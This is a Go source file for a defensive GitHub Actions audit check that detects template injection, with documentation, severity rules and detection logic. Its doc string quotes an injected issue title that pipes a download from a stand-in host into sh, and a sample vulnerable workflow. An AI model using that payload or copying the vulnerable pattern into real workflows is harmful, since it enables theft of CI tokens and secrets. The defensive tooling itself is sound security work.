package checks

import (
	"strings"

	"github.com/rampart-sec/rampart/audit"
	"github.com/rhysd/actionlint"
)

// TemplateInjection flags ${{ }} expressions that expand attacker-controllable data into code:
// run: scripts and the code-taking inputs of actions such as actions/github-script.
var TemplateInjection = &audit.Check{
	ID:         "template-injection",
	Title:      "Attacker-controllable data expanded into a script",
	Severity:   audit.High,
	Confidence: audit.HighConfidence,
	Category:   audit.CategoryInjection,
	Fixable:    true,
	Doc: `GitHub expands ` + "`${{ }}`" + ` expressions before the shell (or Node, for ` + "`actions/github-script`" + `)
sees the script: the value becomes part of the code. An issue titled ` + "`\"; curl evil.sh | sh; echo \"`" + `
turns ` + "`echo \"${{ github.event.issue.title }}\"`" + ` into three commands, run with the job's token and
secrets. Quoting does not help, since the quotes are in the text the attacker completes.

Severity follows who controls the value and who can start the run:

- **critical**: data that anyone on GitHub can write (issue, pull request, comment, review and
  discussion titles and bodies, head branch names, commit messages and author names, fork
  descriptions, ` + "`workflow_run`" + ` head branches and titles...) in a workflow that such a person can trigger
  with the base repository's secrets and a write token: ` + "`pull_request_target`" + `, ` + "`workflow_run`" + `,
  ` + "`issues`" + `, ` + "`issue_comment`" + `, ` + "`discussion`" + `, ` + "`discussion_comment`" + `;
- **high**: the same data under other triggers (` + "`pull_request`" + `, ` + "`push`" + `), in reusable workflows and
  composite actions, or dumped whole with ` + "`toJSON(github.event)`" + `;
- **medium**: string inputs of composite actions and reusable workflows (the caller decides what they
  hold, low confidence), release names and bodies (generated release notes quote contributors'
  pull request titles), ` + "`repository_dispatch`" + ` payloads;
- **low**: string inputs of ` + "`workflow_dispatch`" + ` (only users with write access can dispatch), step and job
  outputs and env variables set at run time (low confidence), and attacker fields that none of the
  workflow's triggers sets.

Expressions are followed through ` + "`env:`" + ` entries, job ` + "`outputs:`" + ` (` + "`needs.*.outputs`" + `) and matrix
values; outputs of actions known to return attacker text unescaped (the branch of a commented pull
request, changed file names with ` + "`safe_output: false`" + `) count as attacker-controlled. Booleans (comparisons, ` + "`contains()`" + `, ` + "`startsWith()`" + `), numbers and ids
(` + "`github.event.pull_request.number`" + `), SHAs, logins (letters, digits and hyphens only), ` + "`secrets.*`" + `,
` + "`vars.*`" + ` and constants are never reported, nor are the parts of the payload that only maintainers or GitHub
set (label names, milestones, the repository, teams, the base branch: an outsider cannot create a label). Besides ` + "`run:`" + `, the code inputs of
` + "`actions/github-script`" + ` (` + "`script`" + `), ` + "`azure/cli`" + ` and ` + "`azure/powershell`" + ` (` + "`inlineScript`" + `),
` + "`appleboy/ssh-action`" + ` (` + "`script`" + `), ` + "`nick-fields/retry`" + ` (` + "`command`" + `), ` + "`mikefarah/yq`" + ` (` + "`cmd`" + `) and
similar actions are sinks.

Inputs are followed to the callers in the same repository: when a workflow calls a local reusable
workflow (` + "`uses: ./.github/workflows/x.yml`" + `) or a step a local composite action
(` + "`uses: ./.github/actions/x`" + `) and passes attacker-controlled data for an input that the callee expands,
the callee's finding takes the caller's rating (**critical** when the caller's trigger is privileged)
and names the caller, which is listed as a related location. When every local caller passes a
constant (or a value that is never attacker-controlled, or leaves a constant default), the finding is
**low** with low confidence, for workflows and actions under ` + "`.github/`" + ` (callers in other repositories
remain possible; an action elsewhere, such as the repository's own ` + "`action.yml`" + `, is published and keeps
its rating). A caller that is itself a local composite action or reusable workflow and passes on one of
its own inputs (` + "`msg: ${{ inputs.text }}`" + `) is followed in turn, up the chain: attacker-controlled
data at its top is reported "through" the actions in between, and constants at every top make the chain
constant. Callers that pass data computed at run time, and callees with no local caller, keep the medium
rating.

A job whose ` + "`if:`" + ` admits only trusted actors is one level lower, and says so: ` + "`==`" + ` comparisons of an
` + "`author_association`" + ` with ` + "`OWNER`" + `, ` + "`MEMBER`" + ` or ` + "`COLLABORATOR`" + `, or of ` + "`github.actor`" + ` with a user's
name (a bot's name can be borrowed, see bot-conditions), ` + "`contains(fromJSON('[...]'), ...)`" + ` over such
values, joined by ` + "`&&`" + ` (one restrictive side suffices) or ` + "`||`" + ` (every side must be). The trusted
actor may still act on an attacker's text (a maintainer's comment on an attacker's issue), so the
finding stays.`,
	Bad: `on: issue_comment
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - name: Greet
        run: |
          echo "Thanks for: ${{ github.event.comment.body }}"
`,
	Good: `on: issue_comment
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - name: Greet
        env:
          COMMENT_BODY: ${{ github.event.comment.body }}
        run: |
          echo "Thanks for: $COMMENT_BODY"
`,
	Fix: `Pass the value through an environment variable and refer to it as a quoted shell variable
(` + "`\"$VAR\"`" + `), or as ` + "`process.env.VAR`" + ` in github-script; the runner then hands it over as data, never as code.

` + "```yaml" + `
- env:
    TITLE: ${{ github.event.issue.title }}
  run: echo "$TITLE"
` + "```" + `

Where the value should have a known shape (a version, a branch name), also validate it
before use. Prefer the runner's own variables where they exist (` + "`$GITHUB_HEAD_REF`" + `, ` + "`$GITHUB_REF_NAME`" + `).`,
	References: []string{
		"https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks",
		"https://securitylab.github.com/resources/github-actions-untrusted-input/",
		"https://docs.zizmor.sh/audits/#template-injection",
		"https://github.com/ossf/scorecard/blob/main/docs/checks.md#dangerous-workflow",
	},
	Equivalents: map[string]string{"zizmor": "template-injection", "scorecard": "Dangerous-Workflow",
		"poutine": "injection", "actionlint": "expression"},
	Run: runTemplateInjection,
}

func runTemplateInjection(pass *audit.Pass) error {
	var calls tiCallIndex // the target's local calls, indexed at the first finding that reads an input
	var resolved tiResolved
	var exprs []tiSinkExpr // sinkExprs' buffer
	var srcBuf []tiSource  // a finding's sources: none is kept after its message is written
	for _, file := range pass.Target.Files {
		if file.Workflow == nil && (file.Action == nil || !file.Action.IsComposite()) {
			continue
		}
		ph := tiPlaceholdersOf(file)
		if len(ph.lines) == 0 && len(ph.matrix) == 0 {
			continue // no placeholder that may read attacker-controlled data
		}
		var trig tiTriggers // computed at the file's first finding
		hasTrig := false
		// What the job of the last finding's step admits (its events, and its gate when its if:
		// admits only trusted actors): the same for each finding of a job, whose steps come in turn.
		// The events are read from its if: at its first finding whose rating depends on them (one
		// of attacker or maintainer data, rateSource): most jobs have none.
		var jobJT tiTriggers
		var jobOf *actionlint.Job
		jobGate, hasJob, hasJT := "", false, false
		tiEachStep(file, ph, func(ref audit.StepRef, sink tiSink, jobEnd int) {
			resolved.enter(file, ref.Job)
			sc := tiScope{file: file, wf: file.Workflow, job: ref.Job, step: ref.Step, ph: ph, jobEnd: jobEnd, resolved: &resolved}
			exprs = sc.sinkExprs(sink.value, exprs)
			where := ""
			for _, e := range exprs {
				var srcs []tiSource
				switch {
				case e.path != "":
					srcs = sc.pathSourcesTo(srcBuf[:0], e.path)
				case e.Node != nil:
					srcs = sc.sourcesTo(srcBuf[:0], e.Node)
				}
				srcBuf = srcs[:0]
				if len(srcs) == 0 {
					continue
				}
				if where == "" {
					where = tiWhere(ref)
				}
				if !hasTrig {
					hasTrig = true
					if file.Workflow != nil {
						trig = workflowTriggers(file)
					} else {
						trig = tiTriggers{any: true}
					}
				}
				if !hasJob || jobOf != ref.Job {
					hasJob, jobOf, hasJT, jobGate = true, ref.Job, false, ""
					if g := tiJobGate(file, ref.Job); g != "" {
						jobGate = "the job runs only if " + g
					}
				}
				if !hasJT && srcs[0].kind >= tiMaintainer {
					hasJT, jobJT = true, tiJobTriggers(file, ref.Job, trig)
				}
				r := rateSource(srcs[0], jobJT)
				if trig.any && tiReadsCaller(srcs) {
					srcs, r = calls.withCallers(pass.Target, file, srcs, r, trig)
				}
				if jobGate != "" {
					r.severity, r.gate = tiLower(r.severity), jobGate
				}
				f := pass.Reportf(file, audit.At(e.Line, e.Col), "")
				f.Message = tiMessage(srcs, r, sink, where, e.Text)
				f.Severity, f.Confidence, f.Related = r.severity, r.confidence, r.related
				f.Key = where + ", " + sink.name + ": " + e.Text
			}
		})
	}
	return nil
}

// tiEachStep calls visit with the steps of the file (in the order of File.Steps) whose code may
// expand attacker-controlled data, and that code (stepSink). In an exact file (tiPlaceholders),
// the strings of a job lie between its position and the next job's, and those of a step between
// its position and the next step's (or the job's end): only the jobs, steps and sinks whose lines
// hold a placeholder that may read a source are visited (tiHolds). No list of the steps is
// built: most are passed over. visit also receives the line where the step's job ends (that of
// the next job, inclusive; -1: the end of the file), which only an exact file's bound.
func tiEachStep(file *audit.File, ph *tiPlaceholders, visit func(ref audit.StepRef, sink tiSink, jobEnd int)) {
	if !ph.exact {
		for _, ref := range file.Steps() {
			if sink, ok := stepSink(ref); ok {
				visit(ref, sink, -1)
			}
		}
		return
	}
	// matrix says whether the plain reads of the matrix context count in the job at hand.
	each := func(job *actionlint.Job, steps []*actionlint.Step, end int, matrix bool) {
		for i, st := range steps {
			if st == nil {
				continue
			}
			last := end
			for _, next := range steps[i+1:] {
				if next != nil && next.Pos != nil {
					last = next.Pos.Line
					break
				}
			}
			if st.Pos != nil {
				if last >= 0 && last < st.Pos.Line {
					last = -1
				}
				if !ph.tiHolds(st.Pos.Line, last, matrix) {
					continue
				}
			}
			ref := audit.StepRef{File: file, Job: job, Index: i, Step: st}
			if sink, ok := stepSink(ref); ok && ph.tiSinkMayHold(sink, last, matrix) {
				visit(ref, sink, end)
			}
		}
	}
	switch {
	case file.Workflow != nil:
		jobs := file.Jobs()
		for i, j := range jobs {
			end := -1
			if i+1 < len(jobs) && jobs[i+1].Pos != nil {
				end = jobs[i+1].Pos.Line
			}
			if end >= 0 && j.Pos != nil && end < j.Pos.Line {
				end = -1
			}
			matrix := len(ph.matrix) > 0 && tiMatrixResolves(ph, j, end)
			if j.Pos != nil && !ph.tiHolds(j.Pos.Line, end, matrix) {
				continue
			}
			each(j, j.Steps, end, matrix)
		}
	case file.Action != nil && file.Action.Runs != nil:
		each(nil, file.Action.Runs.Steps, -1, false) // a composite action has no matrix
	}
}

// tiSinkMayHold reports whether a sink may hold a placeholder that may read a source: in an
// exact file, its text lies from its position to the step's end (stepEnd, as tiEachStep finds
// it), and a line of the index must lie there (tiHolds, with matrix as there). It spares reading
// the value, a long script often, of the many steps whose placeholders stand in their name:,
// if: or env: only.
func (ph *tiPlaceholders) tiSinkMayHold(sink tiSink, stepEnd int, matrix bool) bool {
	if !ph.exact || sink.value.Pos == nil {
		return true
	}
	if stepEnd >= 0 && stepEnd < sink.value.Pos.Line {
		stepEnd = -1
	}
	return ph.tiHolds(sink.value.Pos.Line, stepEnd, matrix)
}

// tiReadsCaller reports whether a finding's sources include an input that a caller sets.
func tiReadsCaller(srcs []tiSource) bool {
	for _, s := range srcs {
		if s.kind == tiCaller {
			return true
		}
	}
	return false
}

// tiSafeExpr reports whether the expression at the start of text (what follows "${{") reads
// only contexts that are never attacker-controlled.
func tiSafeExpr(text string) bool {
	return obfScanReads(text, tiSafeRoot) == obfScanClosed
}

// mayHaveSource reports whether a value holds a ${{ }} expression that may read a context other
// than those that are never attacker-controlled (secrets, vars, runner, job, strategy and the
// github fields outside github.event and github.head_ref), reading each expression token by
// token as actionlint's lexer does, and resolving in the step's scope the plain context reads
// (matrix.os, env.NAME, github.event.pull_request.number): a value whose placeholders read only
// data that resolves to no source has no finding, and needs no parse. It reports true when a
// placeholder dereferences a computed value (fromJSON(x).y, (a || b)[0]), whose path is not a
// read of the text.
func (sc tiScope) mayHaveSource(v string) bool {
	for off := 0; ; {
		i := strings.Index(v[off:], "${{")
		if i < 0 {
			return false
		}
		off += i + 3
		if sc.mayReadSource(v[off:]) {
			return true
		}
	}
}

// mayReadSource is mayHaveSource's test of one placeholder, the text after its "${{".
//
// It scans the text once with both tests of a read: a scan that finds a read neither safe by its
// root nor by its chain would find it with the root's test alone (the scan's walk does not depend
// on the test), so the expression is not tiSafeExpr. Only an expression whose reads all pass and
// that dereferences a value needs the root's scan: it is safe when every read is by its root.
func (sc tiScope) mayReadSource(text string) bool {
	safe := func(name, rest string) bool {
		return tiSafeRoot(name, rest) || sc.safeChain(name, rest, text)
	}
	if obfScanReads(text, safe) != obfScanClosed {
		return true
	}
	return tiDerefsValue(text) && !tiSafeExpr(text)
}

// safeChain reports whether a context read written as a plain chain (name.a.b, nothing but a
// property name after each dot, and no index, dot or call after it) resolves to no source. text
// is the scanned expression, which ends with rest: a name written just before rest, as most are,
// makes the chain a slice of it, not a joined copy.
func (sc tiScope) safeChain(name, rest, text string) bool {
	j, ok := tiPropsEnd(rest)
	if !ok {
		return false
	}
	if t := strings.TrimLeft(rest[j:], " \t\n\r"); t != "" && (t[0] == '.' || t[0] == '[' || t[0] == '(') {
		return false
	}
	var chain string
	if at := len(text) - len(rest); at >= len(name) && text[at-len(name):at] == name {
		chain = text[at-len(name) : at+j]
	} else {
		chain = name + rest[:j]
	}
	for _, s := range sc.resolve(toLower(chain)) {
		if s.kind != tiSafe {
			return false
		}
	}
	return true
}

// tiDerefsValue reports whether the expression at the start of text (what follows "${{", up to
// its closing "}}") dereferences or indexes a parenthesized value or a function's result: ")"
// then "." or "[". String literals are skipped as the lexer reads them; when unsure it reports true.
func tiDerefsValue(text string) bool {
	for i := 0; i < len(text); i++ {
		switch text[i] {
		case '\'':
			j := strings.IndexByte(text[i+1:], '\'')
			if j < 0 {
				return true
			}
			i += j + 1 // a doubled quote reopens the literal at the next turn
		case '}':
			if i+1 < len(text) && text[i+1] == '}' {
				return false
			}
		case ')':
			if t := strings.TrimLeft(text[i+1:], " \t\n\r"); t != "" && (t[0] == '.' || t[0] == '[') {
				return true
			}
		}
	}
	return true
}
